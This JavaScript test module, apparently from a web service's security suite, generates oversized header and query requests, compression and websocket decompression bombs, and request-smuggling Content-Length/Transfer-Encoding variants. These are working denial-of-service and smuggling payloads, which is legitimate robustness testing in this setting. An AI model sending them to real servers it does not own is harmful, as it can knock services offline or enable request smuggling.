/** Requests that are small and cost much, and requests that can be read in two ways. */
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import {
  JSON_TYPE,
  OPCODE,
  frame,
  hostLine,
  postJson,
  request,
  upgradeRequest,
} from '../support/wire.js';

/** @typedef {import('../support/wire.js').Place} Place */

const BIG = 65_536;
/** @param {Place} tv @returns {string[]} requests with many or long headers, query parameters, cookies and keys */
export function requestBombs(tv) {
  const start = `GET / HTTP/1.1\r\n${hostLine(tv)}`;
  const names = Array.from({ length: 1500 }, (_, i) => `k${i}`);
  const body = JSON.stringify(Object.fromEntries(names.slice(0, 500).map((name) => [name, 0])));
  return [
    `${start}${Array.from({ length: 5000 }, (_, i) => `A${i}: b\r\n`).join('')}\r\n`,
    `${start}Cookie: ${'a=b; '.repeat(BIG / 5)}\r\n\r\n`,
    `${start}${'N'.repeat(BIG)}: 1\r\n\r\n`,
    `GET /${'x'.repeat(BIG)} HTTP/1.1\r\n${hostLine(tv)}\r\n`,
    `${start}Authorization: Bearer ${'x'.repeat(12_000)}\r\n\r\n`,
    `${start}Accept-Encoding: ${'gzip;q=0.1,'.repeat(1000)}\r\n\r\n`,
    `${start}If-None-Match: ${'"x",'.repeat(3000)}\r\n\r\n`,
    `GET /lib/renderer.js HTTP/1.1\r\n${hostLine(tv)}Range: bytes=${'0-,'.repeat(3000)}0-\r\n\r\n`,
    request(tv, `/p?${names.join('=1&')}`),
    request(tv, `/p?a${'[b]'.repeat(2000)}=1`),
    request(tv, `/p?c=1${'&c=1'.repeat(3000)}`),
    request(tv, '/api/admin/session', { headers: `Cookie: ${names.join('=1; ')}\r\n` }),
    postJson(tv, '/api/matches', body),
  ];
}

const BURST_BYTES = 20_000_000;
const OFFERS = [
  'permessage-deflate',
  'permessage-deflate; client_max_window_bits=8; server_max_window_bits=8',
  `permessage-deflate, ${'permessage-deflate; server_no_context_takeover, '.repeat(100)}x`,
  'permessage-deflate; client_max_window_bits=99',
  'x-webkit-deflate-frame',
];

/** Makes small bodies, and websocket frames without an agreement, that become megabytes. @param {Place} tv */
export function compressionBombs(tv) {
  const zeros = Buffer.alloc(BURST_BYTES, ' ');
  const gzipped = gzipSync(zeros);
  /** @type {[string, Buffer][]} */
  const bodies = [
    ['gzip', gzipped],
    ['deflate', deflateSync(zeros)],
    ['br', brotliCompressSync(zeros.subarray(0, BURST_BYTES / 10))],
    ['gzip, gzip', gzipSync(gzipped)],
  ];
  const post = (/** @type {string} */ path) =>
    bodies.map(([encoding, bytes]) => {
      const headers = `${JSON_TYPE}Content-Encoding: ${encoding}\r\nContent-Length: ${bytes.length}\r\n`;
      return request(tv, path, { method: 'POST', headers }) + bytes.toString('latin1');
    });
  const compressed = deflateRawSync(zeros).subarray(0, 4000);
  const bomb = frame(OPCODE.text, compressed, { reserved: 4 }).toString('latin1');
  const upgrades = OFFERS.map(
    (offer) => upgradeRequest(tv, { headers: `Sec-WebSocket-Extensions: ${offer}\r\n` }) + bomb,
  );
  return [...post('/api/matches'), ...post('/api/admin/login'), ...upgrades];
}

/** Lengths of a body that can be read in two ways. */
export const LENGTHS = [
  'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n',
  'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n',
  'Content-Length: 0\r\nContent-Length: 40\r\n',
  'Content-Length: 4, 4\r\n',
  'Content-Length: +4\r\n',
  'Content-Length: -1\r\n',
  'Content-Length: 99999999999999999999\r\n',
  'Transfer-Encoding: xchunked\r\n',
  'Transfer-Encoding: chunked, identity\r\n',
  'Transfer-Encoding : chunked\r\n',
  'Transfer-Encoding:\tchunked\r\n X: y\r\n',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n',
  'X: y\nTransfer-Encoding: chunked\r\n',
  'X: y\rContent-Length: 4\r\n',
  '\0Content-Length: 4\r\n',
];
export const CHUNKS = [
  '0\r\n\r\n',
  'ffffffffffffffffff\r\n',
  '-1\r\n',
  '4;a=b\r\nbody\r\n0\r\nX: y\r\n\r\n',
];
